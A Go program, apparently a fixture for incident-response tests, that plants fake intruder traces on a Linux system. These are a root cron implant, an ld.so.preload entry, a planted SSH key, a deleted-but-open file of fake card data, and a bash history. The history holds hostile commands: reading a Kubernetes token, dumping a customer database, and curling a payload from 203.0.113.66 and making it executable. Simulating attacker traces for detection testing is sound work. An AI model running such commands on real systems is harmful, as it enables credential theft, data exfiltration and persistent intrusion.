package main

import (
	"errors"
	"net"
	"os"
	"path/filepath"
	"strings"
)

// persistence is what an intruder writes to come back, by the place where a
// responder looks for it. The values are planted: tests look for them.
var persistence = map[string]string{
	"/var/spool/cron/crontabs/root": "*/5 * * * * /tmp/.cache/kworkerd implant >/dev/null 2>&1\n",
	"/etc/ld.so.preload":            "# /tmp/.cache/libhide.so\n",
	"/root/.ssh/authorized_keys":    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPLANTEDPLANTEDPLANTEDPLANTEDPLANTED01 intruder@203.0.113.66\n",
	"/root/.bash_history": strings.Join([]string{
		"id; uname -a; cat /proc/1/cgroup",
		"cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		"export AWS_SECRET_ACCESS_KEY=PLANTED-HISTORY-aws-51c0ffee9d",
		"mysqldump -h db -u root -pPLANTED-HISTORY-mysql-7be2 customers > /tmp/.x/loot",
		"curl -sk https://203.0.113.66:8443/k -o /tmp/.cache/kworkerd && chmod +x /tmp/.cache/kworkerd",
		"history -c", "",
	}, "\n"),
}

// leavePersistence writes every trace that it may write, and reports the rest.
func leavePersistence() error {
	var failed []error
	for path, content := range persistence {
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			failed = append(failed, err)
			continue
		}
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			failed = append(failed, err)
		}
	}
	return errors.Join(failed...)
}

// held keeps descriptors open for as long as the process lives.
var held []any

// holdLoot keeps a file open whose name is gone: only its descriptor leads there.
func holdLoot() error {
	path := "/tmp/.x/loot"
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		return err
	}
	file, err := os.Create(path)
	if err != nil {
		return err
	}
	held = append(held, file)
	lines := strings.Repeat("4111-1111-1111-1111;PLANTED-LOOT-card-holder-88aa\n", 400)
	if _, err := file.WriteString(lines); err != nil {
		return err
	}
	return os.Remove(path)
}

func listenUDP() error {
	socket, err := net.ListenPacket("udp", ":5353")
	held = append(held, socket)
	return err
}

func listenUnix() error {
	path := "/tmp/.x/control.sock"
	os.Remove(path) // left by an earlier life of this container
	socket, err := net.Listen("unix", path)
	held = append(held, socket)
	return err
}
